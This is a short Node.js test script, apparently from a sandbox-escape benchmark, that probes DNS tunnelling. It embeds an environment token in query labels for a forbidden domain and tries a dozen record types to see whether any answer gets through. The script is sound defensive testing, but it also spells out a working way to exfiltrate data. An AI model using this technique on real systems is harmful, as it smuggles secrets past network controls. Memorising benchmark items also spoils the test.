// technique: looks up names whose labels carry data, by every type that has an answer to carry back
// source: SandboxBench, DNS tunnel; RFC 1035, RFC 9460
// success: the resolver had an answer for a name or a type that is not permitted
// control: permissive
// policy: network
// beside: origins power
// event: DnsResolve
import { promises as dns } from 'node:dns';

const { TOKEN, FORBIDDEN, POWER } = process.env;
const ask = (type, name) =>
  dns.resolve(name, type).then(
    (answer) => answer.length !== 0 && console.log(POWER, type, name),
    (error) => console.error(type, name, error.code),
  );
for (const name of [`${TOKEN}.${FORBIDDEN}`, FORBIDDEN, `${TOKEN}.example`])
  for (const type of ['A', 'AAAA', 'TXT', 'ANY', 'MX', 'CNAME', 'NS', 'SRV', 'CAA', 'PTR', 'NAPTR', 'SOA'])
    await ask(type, name);
